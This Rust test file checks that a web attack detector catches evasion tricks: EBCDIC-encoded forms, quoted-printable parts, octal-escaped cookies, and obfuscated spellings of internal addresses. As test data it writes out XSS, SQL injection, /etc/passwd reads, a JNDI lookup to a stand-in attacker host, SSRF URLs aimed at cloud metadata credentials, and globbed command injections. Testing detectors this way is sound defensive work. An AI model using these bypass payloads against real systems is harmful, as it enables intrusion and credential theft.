//! Evasion classes: payloads hidden by a charset that moves ASCII, by a
//! transfer encoding, by cookie quoting, or by another spelling of an
//! address. Each is caught in the reading the origin makes of it.

mod common;
use common::*;
use portcullis_detect::{DEFAULT_THRESHOLD, Family, Verdict};

const FORM: &str = "application/x-www-form-urlencoded";

/// `s` encoded as EBCDIC code page 037 (the letters, digits and the
/// punctuation of the payloads below).
fn cp037(s: &str) -> Vec<u8> {
    const TABLE: &[(char, u8)] = &[
        (' ', 0x40),
        ('<', 0x4c),
        ('(', 0x4d),
        ('>', 0x6e),
        (')', 0x5d),
        ('/', 0x61),
        ('\'', 0x7d),
        ('-', 0x60),
        ('=', 0x7e),
    ];
    s.chars()
        .map(|c| match c {
            'a'..='i' => 0x81 + (c as u8 - b'a'),
            'j'..='r' => 0x91 + (c as u8 - b'j'),
            's'..='z' => 0xa2 + (c as u8 - b's'),
            'A'..='I' => 0xc1 + (c as u8 - b'A'),
            'J'..='R' => 0xd1 + (c as u8 - b'J'),
            'S'..='Z' => 0xe2 + (c as u8 - b'S'),
            '0'..='9' => 0xf0 + (c as u8 - b'0'),
            _ => TABLE
                .iter()
                .find(|(k, _)| *k == c)
                .map_or(0x6f, |&(_, b)| b),
        })
        .collect()
}

fn pct(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("%{b:02X}")).collect()
}

fn refused(v: &Verdict) -> bool {
    v.is_attack(DEFAULT_THRESHOLD)
}

fn multipart(part_headers: &str, body: &[u8]) -> Verdict {
    let mut b = format!("--BB\r\nContent-Disposition: form-data; name=\"q\"\r\n{part_headers}\r\n")
        .into_bytes();
    b.extend_from_slice(body);
    b.extend_from_slice(b"\r\n--BB--\r\n");
    run(
        "POST",
        "/s",
        &[("content-type", "multipart/form-data; boundary=BB")],
        &b,
    )
}

const XSS: &str = "<script>alert(1)</script>";

#[test]
fn a_form_in_a_charset_that_moves_ascii_is_refused() {
    let body = format!("q={}", pct(&cp037(XSS)));
    for cs in [
        "ibm037", "IBM037", "cp037", "ibm500", "cp1026", "ibm273", "cp875", "utf-16be",
    ] {
        let ct = format!("{FORM}; charset={cs}");
        let v = run("POST", "/s", &[("content-type", &ct)], body.as_bytes());
        assert!(refused(&v), "{cs}: {v:?}");
        assert!(
            v.findings
                .iter()
                .any(|f| f.rule_id == "protocol.unreadable-charset")
        );
    }
}

#[test]
fn a_multipart_part_in_a_charset_that_moves_ascii_is_refused() {
    for cs in ["ibm037", "cp500", "x-unknown"] {
        let v = multipart(
            &format!("Content-Type: text/plain; charset={cs}\r\n"),
            &cp037(XSS),
        );
        assert!(refused(&v), "{cs}: {v:?}");
    }
}

#[test]
fn a_charset_field_that_moves_ascii_is_refused() {
    let body = format!("_charset_=ibm037&q={}", pct(&cp037(XSS)));
    let v = run("POST", "/s", &[("content-type", FORM)], body.as_bytes());
    assert!(refused(&v), "{v:?}");
    let mut b =
        b"--BB\r\nContent-Disposition: form-data; name=\"_charset_\"\r\n\r\nibm037\r\n".to_vec();
    b.extend_from_slice(b"--BB\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n");
    b.extend_from_slice(&cp037(XSS));
    b.extend_from_slice(b"\r\n--BB--\r\n");
    let v = run(
        "POST",
        "/s",
        &[("content-type", "multipart/form-data; boundary=BB")],
        &b,
    );
    assert!(refused(&v), "{v:?}");
}

#[test]
fn forms_in_ascii_compatible_charsets_are_read() {
    for cs in [
        "utf-8",
        "UTF-8",
        "iso-8859-1",
        "windows-1252",
        "gbk",
        "shift_jis",
        "euc-kr",
        "koi8-r",
    ] {
        let ct = format!("{FORM}; charset={cs}");
        let v = run(
            "POST",
            "/s",
            &[("content-type", &ct)],
            b"q=hello+world&_charset_=utf-8",
        );
        assert!(!refused(&v), "{cs}: {v:?}");
        let v = run(
            "POST",
            "/s",
            &[("content-type", &ct)],
            format!("q={}", enc(XSS)).as_bytes(),
        );
        assert!(v.findings.iter().any(|f| f.family == Family::Xss), "{cs}");
        let v = multipart(
            &format!("Content-Type: text/plain; charset={cs}\r\n"),
            b"hello",
        );
        assert!(!refused(&v), "{cs}: {v:?}");
    }
}

/// `s` as quoted-printable with every byte escaped.
fn qp(s: &str) -> String {
    s.bytes().map(|b| format!("={b:02X}")).collect()
}

#[test]
fn quoted_printable_parts_are_decoded() {
    for (payload, family) in [
        ("1' UNION SELECT password FROM users--", Family::Sqli),
        (XSS, Family::Xss),
        ("../../../../etc/passwd", Family::PathTraversal),
        (";cat /etc/passwd", Family::Rce),
    ] {
        let v = multipart(
            "Content-Transfer-Encoding: quoted-printable\r\n",
            qp(payload).as_bytes(),
        );
        assert!(
            v.findings.iter().any(|f| f.family == family),
            "{payload}: {v:?}"
        );
        assert!(refused(&v));
    }
    // Soft line breaks join lines, as in mail.
    let v = multipart(
        "Content-Transfer-Encoding: quoted-printable\r\n",
        b"<scr=\r\nipt>alert(1)</sc=\r\nript>",
    );
    assert!(v.findings.iter().any(|f| f.family == Family::Xss), "{v:?}");
}

#[test]
fn ordinary_quoted_printable_text_is_clean() {
    let v = multipart(
        "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n",
        b"Caf=C3=A9 au lait, 2 =3D 1+1, a long line that wraps here=\r\n and goes on.",
    );
    assert!(!refused(&v), "{v:?}");
}

#[test]
fn an_unknown_transfer_encoding_is_refused() {
    for cte in ["x-uuencode", "uuencode", "base32", "rot13"] {
        let v = multipart(&format!("Content-Transfer-Encoding: {cte}\r\n"), b"hello");
        assert!(refused(&v), "{cte}: {v:?}");
    }
    for cte in ["7bit", "8bit", "binary", "BASE64"] {
        let v = multipart(
            &format!("Content-Transfer-Encoding: {cte}\r\n"),
            b"aGVsbG8=",
        );
        assert!(!refused(&v), "{cte}: {v:?}");
    }
}

/// `s` as a quoted cookie value with every character but letters written
/// as a `\ooo` octal escape, and letters alternately as `\c`.
fn octal_cookie(s: &str) -> String {
    let mut out = String::from("\"");
    for (i, b) in s.bytes().enumerate() {
        if b.is_ascii_alphabetic() && i % 2 == 0 {
            out.push('\\');
            out.push(b as char);
        } else if b.is_ascii_alphabetic() {
            out.push(b as char);
        } else {
            out.push_str(&format!("\\{b:03o}"));
        }
    }
    out.push('"');
    out
}

#[test]
fn quoted_cookie_escapes_are_decoded() {
    let cookie = "session=abc; q=\"\\074script\\076alert\\0501\\051\\074\\057script\\076\"";
    let v = run("GET", "/", &[("cookie", cookie)], b"");
    assert!(
        v.findings
            .iter()
            .any(|f| f.family == Family::Xss && f.location == "cookie.q"),
        "{v:?}"
    );
    for (payload, family) in [
        (XSS, Family::Xss),
        ("1' UNION SELECT password FROM users--", Family::Sqli),
        ("../../../../etc/passwd", Family::PathTraversal),
        (";cat /etc/passwd", Family::Rce),
        ("${jndi:ldap://evil.example/a}", Family::Jndi),
        ("{{''.__class__.__mro__[1].__subclasses__()}}", Family::Ssti),
    ] {
        let cookie = format!("session=abc; q={}", octal_cookie(payload));
        let v = run("GET", "/", &[("cookie", &cookie)], b"");
        assert!(
            v.findings.iter().any(|f| f.family == family),
            "{payload} as {cookie}: {v:?}"
        );
        assert!(refused(&v));
    }
}

#[test]
fn ordinary_quoted_cookies_are_clean() {
    for cookie in [
        "messages=\"6e2d4c1e7f$[[\\\"__json_message\\\"\\0540\\05425\\054\\\"Saved.\\\"]]\"",
        "name=\"John \\\"Johnny\\\" Doe\"; lang=\"en-US\"",
        "path=\"C:\\\\Users\\\\me\"",
        "pref=\"a\\054b\\054c\"",
    ] {
        let v = run("GET", "/", &[("cookie", cookie)], b"");
        assert!(!refused(&v), "{cookie}: {v:?}");
    }
}

const SSRF_SPELLINGS: &[&str] = &[
    "http://2852039166/",
    "http://0xa9fea9fe/",
    "http://[::ffff:a9fe:a9fe]/",
    "http://0251.0376.0251.0376/",
    "http://169.254.43518/",
    "http://169.16689662/",
    "http://00000177.0.0.1/",
    "http://0000/",
    "http://[0000::1]/",
    "http://[fe80::1]/",
    "http://[fd00::1]/",
    "http://127\u{3002}0\u{3002}0\u{3002}1/",
    "http://127\u{ff0e}0\u{ff0e}0\u{ff0e}1/",
    "http://\u{2460}\u{2461}\u{2466}.\u{24ea}.\u{24ea}.\u{2460}/",
    "http://evil.com\\@127.0.0.1/",
    "http:/\\127.0.0.1/",
    "//127.0.0.1/admin",
    "http://169.254.170.2/v2/credentials/x",
    "http://instance-data/",
    "http://100.64.0.1/",
    "http://198.18.0.1/",
];

#[test]
fn other_spellings_of_internal_addresses_are_ssrf() {
    for url in SSRF_SPELLINGS {
        let v = run("GET", &format!("/fetch?url={}", enc(url)), &[], b"");
        assert!(
            v.findings.iter().any(|f| f.family == Family::Ssrf),
            "{url}: {v:?}"
        );
        assert!(refused(&v), "{url}");
        let form = format!("url={}", enc(url));
        let v = run("POST", "/fetch", &[("content-type", FORM)], form.as_bytes());
        assert!(refused(&v), "form {url}");
    }
}

#[test]
fn metadata_addresses_count_in_json_in_every_spelling() {
    for url in [
        "http://169.254.169.254/latest/meta-data/",
        "http://2852039166/latest/meta-data/",
        "http://0xa9fea9fe/",
        "http://[::ffff:a9fe:a9fe]/",
        "http://0251.0376.0251.0376/",
        "http://169.254.43518/",
        "http://169.254.170.2/v2/credentials/x",
        "http://[fd00:ec2::254]/",
        "http://metadata.google.internal/computeMetadata/v1/",
        "http://instance-data/latest/",
        "http://100.100.100.200/latest/meta-data/",
    ] {
        let body = format!("{{\"webhook\":{}}}", json_str(url));
        let v = run(
            "POST",
            "/api",
            &[("content-type", "application/json")],
            body.as_bytes(),
        );
        assert!(refused(&v), "{url}: {v:?}");
    }
    // Loopback and private URLs in JSON are configuration, as documented.
    let body = br#"{"redis":"http://127.0.0.1:6379","api":"http://10.0.0.5/v1","cdn":"//cdn.example.com/a.js"}"#;
    let v = run(
        "POST",
        "/api",
        &[("content-type", "application/json")],
        body,
    );
    assert!(!refused(&v), "{v:?}");
}

#[test]
fn backslash_quote_breakouts_are_sqli() {
    for p in [
        "\\' or 1=1--",
        "\\' or '1'='1",
        "a\\' OR 1=1#",
        "\\'/**/or/**/1=1#",
        "\\\" or 1=1--",
        "1\\' and sleep(5)#",
    ] {
        for (place, v) in placements(p) {
            assert!(
                v.findings.iter().any(|f| f.family == Family::Sqli),
                "{place} {p}: {v:?}"
            );
            assert!(refused(&v), "{place} {p}");
        }
    }
}

#[test]
fn globbed_and_emptily_expanded_commands_are_rce() {
    for p in [
        ";/???/??t /???/p??s??",
        ";/bin/c?t /etc/pa??wd",
        "|/usr/bin/wh?ami",
        ";/usr/bin/[w]hoami",
        ";who$()ami",
        ";wh${x}oami",
        ";who$@ami",
        ";who$1ami",
        "`wh``oami`",
        ";$'\\x69\\x64'",
        ";$'\\151\\144'",
        ";{id,}",
        ";{,id}",
        "/e*c/p*sswd",
    ] {
        for (place, v) in placements(p) {
            assert!(
                v.findings.iter().any(|f| f.family == Family::Rce),
                "{place} {p}: {v:?}"
            );
            assert!(refused(&v), "{place} {p}");
        }
    }
}

#[test]
fn quotes_wildcards_and_dollars_in_ordinary_text_are_clean() {
    for p in [
        "it\\'s a \\\"quoted\\\" word",
        "O\\'Brien",
        "GET /api/*/users?id=1",
        "what? who? where?",
        "price: $5 or $10, save 20%",
        "files: *.jpg, *.png",
        "/usr/share/*/README",
        "{a,b}",
        "${name} and ${user}",
    ] {
        for (place, v) in placements(p) {
            assert!(!refused(&v), "{place} {p}: {v:?}");
        }
    }
}
